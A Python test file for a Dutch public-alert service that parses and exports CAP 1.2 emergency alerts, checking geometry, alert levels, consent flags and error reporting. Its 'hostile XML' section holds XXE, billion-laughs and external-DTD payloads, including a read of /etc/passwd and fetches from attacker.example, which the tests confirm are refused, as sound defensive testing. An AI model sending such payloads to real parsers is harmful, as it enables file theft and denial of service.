"""CAP 1.2 import/export: the mapping, errors naming the element, hardened parsing, and
round trips through the official OASIS schema."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta, timezone
from importlib.resources import files

import pytest

from burgerwacht.cap import CapError, export_cap, parse_cap, validate_cap
from tests.helpers.cap import CIRCLE, NOW, SENDER, SENT, alert, cap, info

CAP_DATETIME = re.compile(r"\d\d\d\d-\d\d-\d\dT\d\d:\d\d:\d\d[-+]\d\d:\d\d")

POLYGON = "<polygon>52.0500,5.7800 52.0500,5.8000 52.0600,5.8000 52.0600,5.7800 52.0500,5.7800</polygon>"


def geocode(code: str, value_name: str = "CBS") -> str:
    return f"<geocode><valueName>{value_name}</valueName><value>{code}</value></geocode>"


def parse(xml: bytes, **kw):
    return parse_cap(xml, now=NOW, **kw)


# ------------------------------------------------------------------ the shipped schema


def test_shipped_schema_is_the_oasis_cap_1_2_schema():
    text = files("burgerwacht.cap").joinpath("CAP-v1.2.xsd").read_text(encoding="utf-8")
    assert "Copyright OASIS Open 2010" in text
    assert 'targetNamespace = "urn:oasis:names:tc:emergency:cap:1.2"' in text
    # The examples below are valid CAP: the schema accepts them.
    validate_cap(cap())
    validate_cap(cap(info(areas=[POLYGON])))


# ------------------------------------------------------------------ parsing


def test_circle():
    draft = parse(cap())
    assert draft == {
        "level": "regular",
        "title": "Inbrekers gevlucht",
        "message": "Twee mannen in donkere kleding, op een scooter richting station.",
        "target": {"type": "circle", "center": {"lat": 52.05545, "lon": 5.78865}, "radius_m": 300},
        "channels": ["sms", "voice"],
        "expires_in_minutes": 90,
        "mode": "live",
        "cap_status": "Actual",
        "cap_identifier": "MK-ON-2026-0042",
        "cap_sender": SENDER,
        "cap_sent": datetime.fromisoformat(SENT),
    }


def test_polygon_is_turned_into_geojson_order():
    draft = parse(cap(info(areas=[POLYGON])))
    ring = draft["target"]["coordinates"][0]
    assert draft["target"]["type"] == "polygon"
    assert ring[0] == [5.78, 52.05]  # [lon, lat]
    assert ring[1] == [5.8, 52.05]
    assert ring[0] == ring[-1]
    assert len(ring) == 5


def test_geocodes_merge_across_areas_and_ignore_other_code_lists():
    areas = [
        geocode("BU99990101") + geocode("006037", "SAME"),
        geocode("WK999903", "CBS_CODE") + geocode("bu99990101"),
        geocode("GM9999", "cbs"),
    ]
    draft = parse(cap(info(areas=areas)))
    assert draft["target"] == {"type": "areas", "codes": ["BU99990101", "WK999903", "GM9999"]}


def test_instruction_is_appended_on_a_new_line():
    draft = parse(cap(info(instruction="Bel 112 als u ze ziet.")))
    assert draft["message"] == (
        "Twee mannen in donkere kleding, op een scooter richting station.\nBel 112 als u ze ziet."
    )
    assert parse(cap(info(description=None, instruction="Bel 112.")))["message"] == "Bel 112."


def test_amber_with_family_consent():
    xml = cap(
        info(event="AMBER Alert", category="Rescue", params={"FAMILY_CONSENT": "true"}),
    )
    draft = parse(xml)
    assert draft["level"] == "amber_regional"
    assert draft["family_consent"] is True
    validate_cap(xml)


@pytest.mark.parametrize(
    ("event", "params", "level"),
    [
        ("Vermist kind", {"FAMILY_CONSENT": "true"}, "missing_child"),
        ("Missing child", {"FAMILY_CONSENT": "TRUE"}, "missing_child"),
        ("Child Abduction", {"FAMILY_CONSENT": "true"}, "missing_child"),
        ("Burgernet", {"BURGERWACHT_LEVEL": "amber_national", "FAMILY_CONSENT": "true"}, "amber_national"),
        ("AMBER Alert", {"BURGERWACHT_LEVEL": "AMBER_NATIONAL", "FAMILY_CONSENT": "true"}, "amber_national"),
        ("amber_national", {"FAMILY_CONSENT": "true"}, "amber_national"),
        ("Vermiste persoon", {}, "regular"),
        ("Verdacht voertuig", {}, "regular"),
        ("Inbraak", {"BURGERWACHT_LEVEL": "regular"}, "regular"),
    ],
)
def test_level(event, params, level):
    assert parse(cap(info(event=event, params=params)))["level"] == level


def test_dutch_info_is_preferred_over_english():
    english = info(language="en-US", headline="Burglars fled", description="Two men on a scooter.")
    dutch = info(language="nl-NL")
    assert parse(cap(english, dutch))["title"] == "Inbrekers gevlucht"
    assert parse(cap(english, info(language="nl")))["title"] == "Inbrekers gevlucht"
    french = info(language="fr-FR", headline="Cambrioleurs", description="Deux hommes.")
    assert parse(cap(english, french))["title"] == "Burglars fled"
    validate_cap(cap(english, dutch))


def test_channels_parameter():
    assert parse(cap(info(params={"BURGERWACHT_CHANNELS": "sms"})))["channels"] == ["sms"]
    assert parse(cap(info(params={"BURGERWACHT_CHANNELS": "SMS, voice"})))["channels"] == ["sms", "voice"]


def test_voice_message_parameter():
    draft = parse(cap(info(params={"BURGERWACHT_VOICE_MESSAGE": "Er zijn inbrekers gevlucht."})))
    assert draft["voice_message"] == "Er zijn inbrekers gevlucht."


def test_expires_defaults_to_an_hour_and_rounds_up():
    assert parse(cap(info(expires=None)))["expires_in_minutes"] == 60
    assert parse(cap(info(expires="2026-05-01T12:00:30+00:00")))["expires_in_minutes"] == 1
    assert parse(cap(info(expires="2026-05-02T12:00:00Z")))["expires_in_minutes"] == 1440


@pytest.mark.parametrize("status", ["Exercise", "Test"])
def test_exercise_and_test_are_flagged(status):
    draft = parse(cap(status=status))
    assert draft["cap_status"] == status and draft["mode"] == "exercise"
    assert parse(cap(status="Actual"))["mode"] == "live"


def test_str_input_and_default_clock():
    later = (datetime.now(UTC) + timedelta(minutes=30)).replace(microsecond=0).isoformat()
    draft = parse_cap(
        cap(info(expires=later), sent=datetime.now(UTC).replace(microsecond=0).isoformat()).decode()
    )
    assert 29 <= draft["expires_in_minutes"] <= 30


# ------------------------------------------------------------------ errors name the element


ERRORS = [
    ("no text", cap(info(description=None)), "info/description", "message"),
    ("expired", cap(info(expires="2026-05-01T13:59:00+02:00")), "info/expires", "not in the future"),
    ("too long", cap(info(expires="2026-05-02T14:01:00+02:00")), "info/expires", "1440"),
    ("bad date", cap(info(expires="morgen")), "info/expires", "date-time"),
    ("no offset", cap(info(expires="2026-05-01T15:30:00")), "info/expires", "offset"),
    (
        "before sent",
        cap(info(expires="2026-05-01T12:30:00+00:00"), sent="2026-05-01T12:45:00+00:00"),
        "info/expires",
        "after sent",
    ),
    ("bad sent", cap(sent="gisteren"), "sent", "date-time"),
    (
        "circle",
        cap(info(areas=["<circle>52.05,5.78</circle>"])),
        "info/area/circle",
        "expected 'lat,lon radius_km'",
    ),
    ("circle lat", cap(info(areas=["<circle>95.0,5.78 1</circle>"])), "info/area/circle", "WGS 84"),
    (
        "polygon pair",
        cap(info(areas=["<polygon>52.05 5.78 52.06 5.79</polygon>"])),
        "info/area/polygon",
        "lat,lon",
    ),
    (
        "polygon open",
        cap(info(areas=["<polygon>52.05,5.78 52.05,5.80 52.06,5.80 52.06,5.78</polygon>"])),
        "info/area/polygon",
        "closed",
    ),
    (
        "polygon short",
        cap(info(areas=["<polygon>52.05,5.78 52.05,5.80 52.05,5.78</polygon>"])),
        "info/area/polygon",
        "at least 4",
    ),
    ("circle -1 km", cap(info(areas=["<circle>52.05,5.78 -1</circle>"])), "info/area/circle", "radius"),
    (
        "two circles apart",
        cap(info(areas=[CIRCLE, "<circle>52.2,5.9 0.3</circle>"])),
        "info/area",
        "do not form one connected area",
    ),
    (
        "codes and drawn areas",
        cap(info(areas=[geocode("BU99990101"), POLYGON])),
        "info/area",
        "either CBS areas or a drawn area",
    ),
    ("no area", cap(info(areas=[])), "info/area", "no circle, polygon or CBS geocode"),
    ("only other geocodes", cap(info(areas=[geocode("006037", "SAME")])), "info/area", "no circle"),
    ("bad CBS code", cap(info(areas=[geocode("BU123")])), "info/area/geocode", "BU123"),
    ("update", cap(msg_type="Update", references=f"{SENDER},MK-1,{SENT}"), "msgType", "only Alert"),
    ("cancel", cap(msg_type="Cancel", references=f"{SENDER},MK-1,{SENT}"), "msgType", "only Alert"),
    ("draft status", cap(status="Draft"), "status", "Actual, Exercise or Test"),
    ("system status", cap(status="System"), "status", "Actual, Exercise or Test"),
    ("no info", cap("<note>x</note>"), "info", "no info"),
    ("bad level", cap(info(params={"BURGERWACHT_LEVEL": "urgent"})), "info/parameter", "BURGERWACHT_LEVEL"),
    (
        "bad level event code",
        cap(
            info(event="x").replace(
                "<expires>",
                "<eventCode><valueName>BURGERWACHT_LEVEL</valueName><value>high</value></eventCode><expires>",
            )
        ),
        "info/eventCode",
        "BURGERWACHT_LEVEL",
    ),
    ("no consent", cap(info(event="AMBER Alert")), "info/parameter", "FAMILY_CONSENT"),
    (
        "consent false",
        cap(info(event="Vermist kind", params={"FAMILY_CONSENT": "false"})),
        "info/parameter",
        "FAMILY_CONSENT",
    ),
    ("consent maybe", cap(info(params={"FAMILY_CONSENT": "ja"})), "info/parameter", "FAMILY_CONSENT"),
    ("bad channel", cap(info(params={"BURGERWACHT_CHANNELS": "sms,fax"})), "info/parameter", "fax"),
    ("no channel", cap(info(params={"BURGERWACHT_CHANNELS": " , "})), "info/parameter", "channel"),
    ("CAP 1.1", cap(ns="urn:oasis:names:tc:emergency:cap:1.1"), "alert", "namespace"),
    ("no namespace", cap(ns="").replace(b' xmlns=""', b""), "alert", "namespace"),
    ("not an alert", b"<feed xmlns='http://www.w3.org/2005/Atom'/>", "alert", "root element"),
    ("not XML", b"<alert", "alert", "well-formed"),
]


@pytest.mark.parametrize(("xml", "element", "words"), [e[1:] for e in ERRORS], ids=[e[0] for e in ERRORS])
def test_errors_name_the_element(xml, element, words):
    with pytest.raises(CapError) as info_:
        parse(xml)
    assert info_.value.element == element
    assert str(info_.value).startswith(f"{element}: ")
    assert words in str(info_.value)
    assert isinstance(info_.value, ValueError)


def test_size_limit():
    xml = cap(info(description="x" * 5000))
    with pytest.raises(CapError, match=r"^alert: .*larger than 4000 bytes"):
        parse(xml, max_bytes=4000)
    assert parse(xml, max_bytes=len(xml))["title"]


def test_configurable_expiry_limit():
    with pytest.raises(CapError, match="info/expires"):
        parse(cap(), max_expires_minutes=60)


# ------------------------------------------------------------------ hostile XML


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""

# A valid alert with an internal DTD that only declares an entity: still refused.
ENTITY_IN_VALID_ALERT = (
    cap()
    .replace(b'<alert xmlns="', b'<!DOCTYPE alert [<!ENTITY who "Meldkamer">]>\n<alert xmlns="', 1)
    .replace(b"<headline>Inbrekers gevlucht", b"<headline>&who;")
)


@pytest.mark.parametrize(
    "payload",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, ENTITY_IN_VALID_ALERT],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "internal-entity"],
)
def test_hostile_xml_is_refused(payload):
    with pytest.raises(CapError) as info_:
        parse(payload)
    assert info_.value.element == "alert"
    assert "not allowed" in str(info_.value)
    with pytest.raises(CapError, match=r"^alert: "):
        validate_cap(payload)


# ------------------------------------------------------------------ export


TARGETS = {
    "circle": {"type": "circle", "center": {"lat": 52.0554512, "lon": 5.7886549}, "radius_m": 1234.4},
    "polygon": {
        "type": "polygon",
        "coordinates": [[[5.78, 52.05], [5.80, 52.05], [5.80, 52.06], [5.78, 52.06], [5.78, 52.05]]],
    },
    "areas": {"type": "areas", "codes": ["BU99990101", "WK999903", "GM9999"]},
}


def _text(xml: bytes, name: str) -> str:
    match = re.search(rf"<{name}>(.*?)</{name}>", xml.decode(), re.S)
    assert match, name
    return match.group(1)


@pytest.mark.parametrize("kind", TARGETS)
@pytest.mark.parametrize("msg_type", ["Alert", "Update", "Cancel"])
def test_export_is_valid_cap(kind, msg_type):
    closed = {"closed_at": NOW + timedelta(minutes=40), "status": "closed"} if msg_type != "Alert" else {}
    xml = export_cap(
        alert(TARGETS[kind], **closed),
        msg_type=msg_type,
        sender=SENDER,
        closing_message="De verdachten zijn aangehouden. Dank voor uw hulp."
        if msg_type == "Update"
        else None,
    )
    validate_cap(xml)
    assert xml.startswith(
        b'<?xml version="1.0" encoding="UTF-8"?>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
    )
    assert _text(xml, "msgType") == msg_type
    suffix = {"Alert": "", "Update": "-update", "Cancel": "-cancel"}[msg_type]
    assert _text(xml, "identifier") == f"burgerwacht-42{suffix}"
    assert CAP_DATETIME.fullmatch(_text(xml, "sent"))
    if msg_type == "Alert":
        assert "<references>" not in xml.decode()
        assert _text(xml, "sent") == "2026-05-01T12:00:00+00:00"
    else:
        assert _text(xml, "references") == f"{SENDER},burgerwacht-42,2026-05-01T12:00:00+00:00"
        assert _text(xml, "sent") == "2026-05-01T12:40:00+00:00"
    if msg_type == "Update":
        assert _text(xml, "description") == "De verdachten zijn aangehouden. Dank voor uw hulp."


@pytest.mark.parametrize("kind", TARGETS)
def test_export_then_parse_gives_the_same_target(kind):
    source = alert(TARGETS[kind])
    draft = parse(export_cap(source, msg_type="Alert", sender=SENDER))
    target = draft["target"]
    if kind == "circle":
        assert target["center"]["lat"] == pytest.approx(52.0554512, abs=1e-6)
        assert target["center"]["lon"] == pytest.approx(5.7886549, abs=1e-6)
        assert target["radius_m"] == pytest.approx(1234.4, abs=1)
    elif kind == "polygon":
        assert target["type"] == "polygon"
        for got, want in zip(target["coordinates"][0], TARGETS["polygon"]["coordinates"][0], strict=True):
            assert got == pytest.approx(want, abs=1e-6)
    else:
        assert target == TARGETS["areas"]
    assert draft["level"] == "regular"
    assert draft["title"] == source["title"]
    assert draft["message"] == source["message"]
    assert draft["channels"] == ["sms", "voice"]
    assert draft["expires_in_minutes"] == 90
    assert draft["cap_identifier"] == "burgerwacht-42"


@pytest.mark.parametrize("level", ["regular", "missing_child", "amber_regional", "amber_national"])
def test_export_then_parse_keeps_the_level(level):
    source = alert(level=level, channels=["sms"], voice_message="Luister goed.")
    xml = export_cap(source, msg_type="Alert", sender=SENDER)
    validate_cap(xml)
    draft = parse(xml)
    assert draft["level"] == level
    assert draft["channels"] == ["sms"]
    assert draft["voice_message"] == "Luister goed."
    assert _text(xml, "severity") == ("Severe" if level.startswith("amber") else "Moderate")
    assert _text(xml, "category") == ("Security" if level == "regular" else "Rescue")
    if level != "regular":
        assert draft["family_consent"] is True


def test_export_accepts_iso_strings_and_drops_fractions():
    source = alert(
        sent_at="2026-05-01T14:00:00.123456+02:00",
        created_at="2026-05-01T13:59:00+02:00",
        expires_at=datetime(2026, 5, 1, 15, 30, 0, 999, tzinfo=timezone(timedelta(hours=2))),
    )
    xml = export_cap(source, msg_type="Alert", sender=SENDER)
    validate_cap(xml)
    assert _text(xml, "sent") == "2026-05-01T14:00:00+02:00"
    assert _text(xml, "expires") == "2026-05-01T15:30:00+02:00"
    naive = export_cap(alert(sent_at="2026-05-01T12:00:00"), msg_type="Alert", sender=SENDER)
    assert _text(naive, "sent") == "2026-05-01T12:00:00+00:00"


def test_export_draft_without_sent_at_uses_created_at():
    xml = export_cap(alert(sent_at=None, status="draft"), msg_type="Alert", sender=SENDER)
    assert _text(xml, "sent") == "2026-05-01T11:58:00+00:00"


def test_export_references_given():
    refs = [
        (SENDER, "burgerwacht-42", NOW),
        (SENDER, "burgerwacht-42-update", "2026-05-01T14:30:00+02:00"),
    ]
    xml = export_cap(alert(), msg_type="Cancel", sender=SENDER, references=refs, now=NOW + timedelta(hours=1))
    validate_cap(xml)
    assert _text(xml, "references") == (
        f"{SENDER},burgerwacht-42,2026-05-01T12:00:00+00:00 {SENDER},burgerwacht-42-update,2026-05-01T14:30:00+02:00"
    )
    assert _text(xml, "sent") == "2026-05-01T13:00:00+00:00"


def test_update_uses_the_alerts_closing_message_or_needs_one():
    xml = export_cap(alert(closing_message="Het kind is gevonden."), msg_type="Update", sender=SENDER)
    assert _text(xml, "description") == "Het kind is gevonden."
    with pytest.raises(ValueError, match="closing_message"):
        export_cap(alert(), msg_type="Update", sender=SENDER)


def test_export_errors():
    with pytest.raises(CapError, match=r"^sender: "):
        export_cap(alert(), msg_type="Alert", sender="meldkamer oost")
    holed = {
        "type": "polygon",
        "coordinates": [
            [[5.78, 52.05], [5.80, 52.05], [5.80, 52.06], [5.78, 52.06], [5.78, 52.05]],
            [[5.79, 52.055], [5.795, 52.055], [5.795, 52.056], [5.79, 52.055]],
        ],
    }
    with pytest.raises(CapError) as info_:
        export_cap(alert(holed), msg_type="Alert", sender=SENDER)
    assert info_.value.element == "info/area/polygon"
    with pytest.raises(ValueError, match="msg_type"):
        export_cap(alert(), msg_type="Ack", sender=SENDER)  # type: ignore[arg-type]


def test_export_escapes_text():
    xml = export_cap(alert(title='Let op: <script> & "quotes"'), msg_type="Alert", sender=SENDER)
    validate_cap(xml)
    assert parse(xml)["title"] == 'Let op: <script> & "quotes"'


# ------------------------------------------------------------------ schema validation errors


@pytest.mark.parametrize(
    ("old", "new", "element"),
    [
        (b"<status>Actual</status>", b"<status>Bogus</status>", "status"),
        (
            b"<expires>2026-05-01T13:30:00+00:00</expires>",
            b"<expires>2026-05-01T13:30:00Z</expires>",
            "info/expires",
        ),
        (b"<sent>2026-05-01T12:00:00+00:00</sent>", b"<sent>2026-05-01T12:00:00.5+00:00</sent>", "sent"),
        (b"<urgency>Immediate</urgency>", b"", "info"),
        (b"<category>Security</category>", b"<category>Police</category>", "info/category"),
    ],
)
def test_validate_cap_names_the_element(old, new, element):
    xml = export_cap(alert(), msg_type="Alert", sender=SENDER)
    assert old in xml
    with pytest.raises(CapError) as info_:
        validate_cap(xml.replace(old, new))
    assert info_.value.element == element
    assert str(info_.value).startswith(f"{element}: ")


def test_validate_cap_refuses_other_documents():
    with pytest.raises(CapError, match=r"^alert: "):
        validate_cap(cap(ns="urn:oasis:names:tc:emergency:cap:1.1"))
    with pytest.raises(CapError, match=r"^alert: "):
        validate_cap(b"not xml")


# ------------------------------------------------------------------ the draft fits the API


def test_parsed_draft_is_a_valid_alert_body():
    models = pytest.importorskip("burgerwacht.alerts.models")
    examples = [
        cap(),
        cap(info(areas=[POLYGON])),
        cap(info(areas=[geocode("BU99990101"), geocode("WK999903")])),
        cap(info(event="AMBER Alert", params={"FAMILY_CONSENT": "true", "BURGERWACHT_CHANNELS": "sms"})),
    ]
    for xml in examples:
        draft = {k: v for k, v in parse(xml).items() if not k.startswith("cap_")}
        models.AlertIn.model_validate(draft)


# ------------------------------------------------------------------ issue 20, item 4


def test_a_point_is_a_circle_of_the_minimum_radius():
    point = ["<circle>52.05545,5.78865 0</circle>"]
    assert parse(cap(info(areas=point)))["target"]["radius_m"] == 100
    assert parse(cap(info(areas=point)), min_radius_m=250)["target"]["radius_m"] == 250
    assert parse(cap(info(areas=["<circle>52.05545,5.78865 0.0004</circle>"])))["target"]["radius_m"] == 100
    # a real radius is kept as given, however small
    assert parse(cap(info(areas=["<circle>52.05545,5.78865 0.01</circle>"])))["target"]["radius_m"] == 10


def test_without_headline_the_title_is_the_event_else_the_first_line():
    assert parse(cap(info(headline=None, event="Inbraak")))["title"] == "Inbraak"
    no_event = cap(info(headline=None, description="Let op: inbraak.\nTwee mannen gevlucht.")).replace(
        b"<event>Inbraak</event>", b"<event> </event>"
    )
    assert parse(no_event)["title"] == "Let op: inbraak."
    long = cap(info(headline=None, description="woord " * 60)).replace(
        b"<event>Inbraak</event>", b"<event></event>"
    )
    title = parse(long)["title"]
    assert len(title) == 120 and title.endswith("…")


def test_title_limit_is_the_alert_models():
    from burgerwacht.alerts.models import AlertIn
    from burgerwacht.cap.cap import TITLE_MAX_LENGTH

    assert any(
        getattr(m, "max_length", None) == TITLE_MAX_LENGTH for m in AlertIn.model_fields["title"].metadata
    )


def test_overlapping_circles_and_polygons_become_their_union():
    near = "<circle>52.0600,5.8000 0.5</circle>"  # overlaps POLYGON's corner
    draft = parse(cap(info(areas=[POLYGON, near])))
    target = draft["target"]
    assert target["type"] == "polygon" and len(target["coordinates"]) == 1
    import shapely

    union = shapely.Polygon(target["coordinates"][0])
    assert union.is_valid
    assert union.contains(shapely.Point(5.79, 52.055))  # inside the polygon
    assert union.contains(shapely.Point(5.8040, 52.0620))  # inside the circle, outside the polygon
    # several circles in one area too
    draft = parse(cap(info(areas=[CIRCLE + "<circle>52.05545,5.7930 0.3</circle>"])))
    assert draft["target"]["type"] == "polygon"


def test_geometry_wins_over_geocodes_naming_the_same_area():
    draft = parse(cap(info(areas=[CIRCLE + geocode("BU99990101")])))
    assert draft["target"]["type"] == "circle"


def test_export_names_the_source_and_keeps_the_first_sent():
    source = parse(cap())
    alert = {
        "id": 7,
        "level": "regular",
        "title": "Inbrekers gevlucht",
        "message": "Let op.",
        "target": source["target"],
        "channels": ["sms"],
        "created_at": "2026-05-01T12:00:00+00:00",
        "sent_at": "2026-05-01T12:05:00+00:00",
        "cap_sent": "2026-05-01T12:00:00+00:00",
        "closed_at": "2026-05-01T13:00:00+00:00",
        "closing_message": "Aangehouden.",
        "cap_source": {"identifier": source["cap_identifier"], "sender": source["cap_sender"], "sent": SENT},
    }
    xml = export_cap(alert, msg_type="Alert", sender="burgerwacht@example.nl")
    validate_cap(xml)
    assert b"<sent>2026-05-01T12:00:00+00:00</sent>" in xml  # cap_sent, not sent_at
    assert f"<references>{SENDER},MK-ON-2026-0042,2026-05-01T14:00:00+02:00</references>".encode() in xml
    update = export_cap(alert, msg_type="Update", sender="burgerwacht@example.nl")
    validate_cap(update)
    assert b"burgerwacht@example.nl,burgerwacht-7,2026-05-01T12:00:00+00:00 " in update
    no_source = export_cap({**alert, "cap_source": None}, msg_type="Alert", sender="burgerwacht@example.nl")
    assert b"<references>" not in no_source
